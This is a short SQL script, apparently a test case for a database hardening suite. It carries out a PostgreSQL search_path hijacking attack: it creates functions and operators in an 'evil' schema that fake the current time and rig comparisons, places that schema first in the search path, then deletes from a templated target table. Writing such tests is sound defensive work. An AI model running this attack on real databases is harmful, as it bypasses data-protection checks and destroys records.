-- Attack: hostile functions and operators first in the search_path, then DELETE
-- As: plain role, superuser

CREATE FUNCTION evil.clock_timestamp() RETURNS timestamptz LANGUAGE sql
AS $$ SELECT timestamptz '2100-01-01' $$;
CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE sql AS $$ SELECT timestamptz '2100-01-01' $$;
CREATE FUNCTION evil.earlier(timestamptz, interval) RETURNS timestamptz LANGUAGE sql
AS $$ SELECT timestamptz '2100-01-01' $$;
CREATE OPERATOR evil.- (FUNCTION = evil.earlier, LEFTARG = timestamptz, RIGHTARG = interval);
CREATE FUNCTION evil.always(timestamptz, timestamptz) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;
CREATE OPERATOR evil.<= (FUNCTION = evil.always, LEFTARG = timestamptz, RIGHTARG = timestamptz);
CREATE OPERATOR evil.< (FUNCTION = evil.always, LEFTARG = timestamptz, RIGHTARG = timestamptz);
CREATE FUNCTION evil.never(text, text) RETURNS boolean LANGUAGE sql AS $$ SELECT false $$;
CREATE OPERATOR evil.= (FUNCTION = evil.never, LEFTARG = text, RIGHTARG = text);
SET search_path = evil, pg_catalog;
DELETE FROM {target};
